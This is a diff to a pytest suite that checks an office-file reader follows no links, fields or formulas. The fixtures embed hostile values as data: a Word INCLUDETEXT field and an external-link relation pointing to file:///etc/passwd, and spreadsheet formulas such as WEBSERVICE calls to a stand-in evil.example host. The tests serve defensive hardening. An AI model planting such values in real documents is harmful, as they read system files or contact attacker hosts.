@@ -5,11 +5,11 @@ from __future__ import annotations
 import io
 import socket
 import zipfile
-from pathlib import Path
 
 import pytest
 
 from generator.intake.read import read
+from generator.intake.shape import OfficeFile
 from tests.intake.office import docx, p, xlsx
 
 RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
@@ -23,16 +23,19 @@ def relation(kind: str, target: str) -> str:
     )
 
 
-@pytest.fixture(autouse=True)
-def nothing_is_opened(monkeypatch: pytest.MonkeyPatch) -> None:
+def read_alone(name: str, data: bytes) -> OfficeFile:
+    """What a file holds, read while nothing else can be opened and nobody asked."""
+
     def no(*args: object, **more: object) -> None:
         raise AssertionError(f"opened: {args}")
 
-    for name in ("connect", "connect_ex"):
-        monkeypatch.setattr(socket.socket, name, no)
-    monkeypatch.setattr(socket, "getaddrinfo", no)
-    monkeypatch.setattr(Path, "open", no)
-    monkeypatch.setattr("builtins.open", no)
+    read(name, data)  # loads what reading needs
+    with pytest.MonkeyPatch.context() as patch:
+        for name_ in ("connect", "connect_ex"):
+            patch.setattr(socket.socket, name_, no)
+        patch.setattr(socket, "getaddrinfo", no)
+        patch.setattr("builtins.open", no)
+        return read(name, data)
 
 
 @pytest.mark.parametrize(
@@ -49,7 +52,7 @@ def test_a_document_opens_nothing_that_it_points_to(kind: str, target: str) -> N
         p("派出所")
         + f'<w:p><w:hyperlink xmlns:r="{DOC}" r:id="rId9"><w:r><w:t>看这里</w:t></w:r></w:hyperlink></w:p>'
     )
-    made = read("a.docx", docx(body, **more))
+    made = read_alone("a.docx", docx(body, **more))
     assert [one.text for one in made.paragraphs] == ["派出所", "看这里"]
 
 
@@ -61,7 +64,7 @@ def test_field_commands_of_word_are_neither_run_nor_taken() -> None:
         '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
         f'<w:p><w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd"><w:r><w:t>司法所</w:t></w:r></w:fldSimple></w:p>'
     )
-    assert [one.text for one in read("a.docx", docx(body)).paragraphs] == ["值班室", "司法所"]
+    assert [one.text for one in read_alone("a.docx", docx(body)).paragraphs] == ["值班室", "司法所"]
 
 
 @pytest.mark.parametrize(
@@ -70,7 +73,7 @@ def test_field_commands_of_word_are_neither_run_nor_taken() -> None:
      "='http://evil.example/[x.xlsx]a'!A1", "=[1]名单!A1", '=WEBSERVICE("http://evil.example")'],
 )  # fmt: skip
 def test_formulas_and_dde_of_a_sheet_stay_letters(formula: str) -> None:
-    made = read("a.xlsx", xlsx([("单位", "职务"), (formula, "所长")]))
+    made = read_alone("a.xlsx", xlsx([("单位", "职务"), (formula, "所长")]))
     cell = made.tables[0].rows[1][0]
     assert (cell.text, cell.flaw) == (formula, "formula")
 
@@ -85,5 +88,5 @@ def test_a_workbook_opens_no_other_workbook() -> None:
                 own = relation("externalLink", "file:///etc/passwd").partition("<Relationship Id")[2]
                 part = part.replace(b"</Relationships>", b"<Relationship Id" + own.encode())
             hostile.writestr(name, part)
-    rows = read("a.xlsx", out.getvalue()).tables[0].rows
+    rows = read_alone("a.xlsx", out.getvalue()).tables[0].rows
     assert [[cell.text for cell in row] for row in rows] == [["单位", "职务"], ["派出所", "所长"]]
